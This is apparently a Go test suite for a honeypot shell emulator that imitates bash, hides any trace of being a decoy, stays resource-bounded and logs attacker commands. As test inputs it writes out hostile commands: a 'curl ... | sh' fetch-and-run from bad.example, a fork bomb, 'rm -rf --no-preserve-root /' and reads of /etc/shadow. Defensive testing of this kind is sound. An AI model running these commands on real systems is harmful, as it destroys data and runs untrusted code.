package shell_test

import (
	"bytes"
	"context"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/decnet/decnet/decoys/identity"
	"github.com/decnet/decnet/decoys/persona"
	"github.com/decnet/decnet/decoys/shell"
)

func machine(distro string) *shell.Machine {
	return shell.NewMachine(persona.New(persona.Options{
		Identity: identity.New("web-01", "instance"), Distro: distro, Hostname: "SRV-WEB-31", User: "ubuntu", Local: netip.MustParseAddr("127.66.0.2"),
	}))
}

type sync2 struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *sync2) Write(p []byte) (int, error) { s.mu.Lock(); defer s.mu.Unlock(); return s.b.Write(p) }

func (s *sync2) String() string { s.mu.Lock(); defer s.mu.Unlock(); return s.b.String() }

func exec(ctx context.Context, m *shell.Machine, user, line, stdin string, h shell.Hooks) (string, int) {
	out := &sync2{}
	s := m.NewSession(shell.Options{User: user, SrcIP: "1.2.3.4", SrcPort: "5", LocalIP: "10.0.0.1", LocalPort: "22", In: strings.NewReader(stdin), Out: out, Err: out, Hooks: h})
	defer s.Close()
	status := s.Exec(ctx, line)
	return out.String(), status
}

func TestExec_BehavesLikeBash(t *testing.T) {
	t.Parallel()
	m := machine("debian")
	for _, c := range []struct {
		line, want string
		status     int
	}{
		{"whoami", "root\n", 0},
		{"id -u; id -un", "0\nroot\n", 0},
		{"echo a b | tr a-z A-Z && false || echo no", "A B\nno\n", 0},
		{"for i in 1 2 3; do echo -n $i; done; exit 7", "123", 7},
		{"cd /tmp; pwd; cd /nonexistent", "/tmp\nbash: line 1: cd: /nonexistent: No such file or directory\n", 1},
		{"nosuchcmd", "bash: line 1: nosuchcmd: command not found\n", 127},
		{"cat /nope", "cat: /nope: No such file or directory\n", 1},
		{"cat < /nope", "bash: line 1: /nope: No such file or directory\n", 1},
		{"mkdir -p /tmp/q/w && echo hi > /tmp/q/w/f && cat /tmp/q/w/* && rm -rf /tmp/q && ls /tmp/q", "hi\nls: cannot access '/tmp/q': No such file or directory\n", 2},
		{"echo $0 $HOME ~ $((2+3)) ${#HOME}", "bash /root /root 5 5\n", 0},
		{"f() { echo in $1; return 3; }; f x; echo $?", "in x\n3\n", 0},
		{"cat <<EOF | wc -l\na\nb\nEOF", "2\n", 0},
		{"test -f /etc/passwd && [ -d /etc ] && [[ -e /bin/ls ]] && echo yes", "yes\n", 0},
		{"echo 'echo nested $1' > /tmp/s.sh; sh /tmp/s.sh; chmod +x /tmp/s.sh; /tmp/s.sh arg", "nested\nnested arg\n", 0},
		{"echo id | sh | cut -d' ' -f1", "uid=0(root)\n", 0},
		{"bash <(echo echo sub)", "sub\n", 0},
		{"eval 'echo $0'; x=5; eval y=$x; echo $y", "bash\n5\n", 0},
		{"which ls; type cd; command -v wget", "/usr/bin/ls\ncd is a shell builtin\n/usr/bin/wget\n", 0},
		{"grep -c root: /etc/passwd; head -n1 /etc/passwd | awk -F: '{print $1, $3}'", "1\nroot 0\n", 0},
		{"echo hello | sed 's/l/L/g' | base64 | base64 -d", "heLLo\n", 0},
		{"printf '\\x7fELF\\x01' > /tmp/m; chmod 777 /tmp/m; /tmp/m", "bash: line 1: /tmp/m: cannot execute binary file: Exec format error\n", 126},
		{"echo x > /tmp/noexec; /tmp/noexec", "bash: line 1: /tmp/noexec: Permission denied\n", 126},
		{"cp /bin/echo /tmp/e; /tmp/e copied", "copied\n", 0},
		{"head -c 4 /bin/ls | xxd -p", "7f454c46\n", 0},
		{"/bin/busybox NOSUCH", "NOSUCH: applet not found\n", 127},
		{"echo -ne '\\x7f\\x45\\00\\0101\\n' | xxd -p; echo -en 'a\\cb'; /bin/busybox echo -n -e '\\xffx\\xg' | xxd -p", "7f4500410a\naff785c7867\n", 0},
		{"echo -x -n; echo -E '\\t'; echo -; echo", "-x -n\n\\t\n-\n\n", 0},
		{"system; sh -c system", "bash: line 1: system: command not found\nsh: 1: system: not found\n", 127},
		{"enable nosuch; enable | head -1; sh -c enable", "bash: line 1: enable: nosuch: not a shell builtin\nenable .\nsh: 1: enable: not found\n", 127},
		{"busybox --list | grep -c ftp; busybox | head -1", "3\nBusyBox v1.35.0 (Debian 1:1.35.0-4+b3) multi-call binary.\n", 0},
		{"busybox wget http://a.invalid/x; busybox bash", "wget: bad address 'a.invalid'\nbash: applet not found\n", 127},
		{"echo a >/dev/null; echo b 2>&1 >&2", "b\n", 0},
		{"seq 3 | xargs -I{} echo n{}", "n1\nn2\nn3\n", 0},
		{"sudo whoami; su - ubuntu -c whoami", "root\nubuntu\n", 0},
		{"ls -d /root /etc; stat -c %a /tmp", "/etc\n/root\n1777\n", 0},
		{"if true; then echo `uname`; fi; A=1 env | grep ^A=", "Linux\nA=1\n", 0},
		{"yes | head -2", "y\ny\n", 0},
		{"useradd -m eve && id eve", "uid=1001(eve) gid=1001(eve) groups=1001(eve)\n", 0},
	} {
		out, status := exec(t.Context(), m, "root", c.line, "", shell.Hooks{})
		require.Equal(t, c.want, out, c.line)
		require.Equal(t, c.status, status, c.line)
	}
}

func TestFacts_AgreeWithEachOther(t *testing.T) {
	t.Parallel()
	for _, d := range persona.Distros() {
		m := machine(d)
		ask := func(line string) string {
			out, _ := exec(t.Context(), m, "root", line, "", shell.Hooks{})
			return strings.TrimSpace(out)
		}
		require.Contains(t, ask("cat /proc/version"), ask("uname -r"), d)
		require.Contains(t, ask("cat /proc/version"), ask("uname -v"), d)
		require.Equal(t, "SRV-WEB-31", ask("hostname"), d)
		require.Equal(t, ask("nproc"), ask("grep -c ^processor /proc/cpuinfo"), d)
		require.Contains(t, ask("free -k"), strings.Fields(ask("grep MemTotal /proc/meminfo"))[1], d)
		require.Contains(t, ask("ip a"), m.Host.Addr.String(), d)
		require.False(t, m.Host.Addr.IsLoopback(), d)
		require.Contains(t, ask("cat /etc/os-release"), m.Host.Pretty, d)
		all := strings.ToLower(ask("cat /etc/* /proc/* /root/* /root/.* /opt/*/.env 2>/dev/null; env; set; ps aux; dmesg; help; find / 2>/dev/null"))
		for _, word := range []string{"decnet", "decoy", "decky", "honey", "gosh", "mvdan", "golang"} {
			require.NotContains(t, all, word, d)
		}
	}
}

func TestExec_TouchesNoRealFile(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	real := dir + "/real"
	require.NoError(t, os.WriteFile(real, []byte("SECRET=real\n"), 0o600))
	m := machine("debian")
	for _, line := range []string{
		"cat " + real, ". " + real + "; echo $SECRET", "source " + real, "echo " + dir + "/*", "test -e " + real + " && echo SECRET", "cd " + dir + " && echo SECRET",
		"cat < " + real, "x=$(<" + real + "); echo $x", "mapfile -t a < " + real + "; echo ${a[0]}", "echo x > " + dir + "/new", "ls " + dir, "find " + dir, "cp " + real + " /tmp/c; cat /tmp/c",
		"cat <(cat " + real + ")", "eval 'cat <(cat " + real + ")'", "trap 'cat <(cat " + real + ")' EXIT; exit", "builtin pwd -P", "command eval '. " + real + "; echo $SECRET'", "exec 3<" + real + "; cat <&3",
		"bash -c '. " + real + "; echo $SECRET'", "exec cat " + real,
	} {
		out, _ := exec(t.Context(), m, "root", line, "", shell.Hooks{})
		require.NotContains(t, strings.ReplaceAll(out, real, ""), "SECRET", line)
	}
	left, err := os.ReadDir(dir)
	require.NoError(t, err)
	require.Len(t, left, 1)
	out, _ := exec(t.Context(), m, "root", "echo $$ $PPID; eval 'echo $$'", "", shell.Hooks{})
	require.NotContains(t, strings.Fields(out), strconv.Itoa(os.Getpid()))
}

func TestExec_IsBounded(t *testing.T) {
	t.Parallel()
	m := machine("debian")
	for _, line := range []string{
		"yes", "cat /dev/zero", "while :; do :; done", "seq 1 999999999", "f(){ f; }; f", "a=x; while :; do a=$a$a; done", ":(){ :|:& };:", "echo {1..999999999}",
		"x='eval \"$x\"'; eval \"$x\"", "set -- a b; while :; do set -- \"$@\" \"$@\"; done", "printf '%999999999d' 1", "cat /dev/urandom | tr a b", "dd if=/dev/zero of=/tmp/big bs=1M count=9999",
		"bash -c 'bash -c \"bash -c yes\"'", "$(yes)", "while read x; do :; done < /dev/zero", "for((;;)); do echo aaaaaaaaaa; done", "sleep 9999", "a=aaaaaaaaaa; echo " + strings.Repeat("$a", 9000),
		"echo " + strings.Repeat("{a,b}", 40), "cat", "trap 'f' ERR; f(){ false; f; }; f",
	} {
		ctx, cancel := context.WithTimeout(t.Context(), 1500*time.Millisecond)
		started := time.Now()
		exec(ctx, m, "root", line, "", shell.Hooks{})
		cancel()
		require.Less(t, time.Since(started), time.Minute, line)
	}
	used, _ := m.FS().Used()
	require.LessOrEqual(t, used, int64(64<<20))
}

func TestHooks_ReportCommandsFilesAndDownloads(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var got []string
	h := shell.Hooks{
		Command: func(e shell.CommandEvent) {
			mu.Lock()
			got = append(got, "cmd "+e.Line+" "+e.Dir+" "+e.User)
			mu.Unlock()
		},
		File:     func(e shell.FileEvent) { mu.Lock(); got = append(got, "file "+e.Path+" "+string(e.Data)); mu.Unlock() },
		Download: func(tool, url string) { mu.Lock(); got = append(got, tool+" "+url); mu.Unlock() },
	}
	exec(t.Context(), machine("ubuntu22"), "ubuntu", "echo evil > /tmp/p; curl -s http://bad.example/x | sh", "", h)
	require.Contains(t, got, "file /tmp/p evil\n")
	require.Contains(t, got, "curl http://bad.example/x")
	require.Contains(t, got[0], "cmd echo evil > /tmp/p")
}

func TestMachine_IsMadeAnewAfterVandalism(t *testing.T) {
	t.Parallel()
	m := machine("debian")
	exec(t.Context(), m, "root", "echo kept > /root/k", "", shell.Hooks{})
	out, _ := exec(t.Context(), m, "root", "cat /root/k; rm -rf --no-preserve-root / 2>/dev/null; ls", "", shell.Hooks{})
	require.Contains(t, out, "kept")
	out, _ = exec(t.Context(), m, "root", "ls /bin/ls", "", shell.Hooks{})
	require.Equal(t, "/bin/ls\n", out)
}

func TestUser_CannotReadShadow(t *testing.T) {
	t.Parallel()
	out, status := exec(t.Context(), machine("debian"), "ubuntu", "cat /etc/shadow; ls /root; echo x > /etc/passwd", "", shell.Hooks{})
	require.NotZero(t, status)
	require.Contains(t, out, "cat: /etc/shadow: Permission denied")
	require.Contains(t, out, "cannot open directory '/root': Permission denied")
	require.Contains(t, out, "/etc/passwd: Permission denied")
}

func FuzzExec(f *testing.F) {
	for _, s := range []string{"ls", "a=$(b", "for i in", "${x@Q}", "<(a)", "echo ${a//b/c}", "trap x EXIT", "coproc x", "select x in a; do b; done", "set -x; a", "time ls", "((1/0))", "$[1]", "a[1]=2; echo ${a[@]}", "declare -A m; m[x]=1", "let x=1", "echo $'\\x00'", "@test x { a; }", "case x in x) id;; esac"} {
		f.Add(s)
	}
	m := machine("debian")
	f.Fuzz(func(t *testing.T, line string) {
		ctx, cancel := context.WithTimeout(context.Background(), 500*time.Millisecond)
		defer cancel()
		exec(ctx, m, "root", line, "in\n", shell.Hooks{})
	})
}
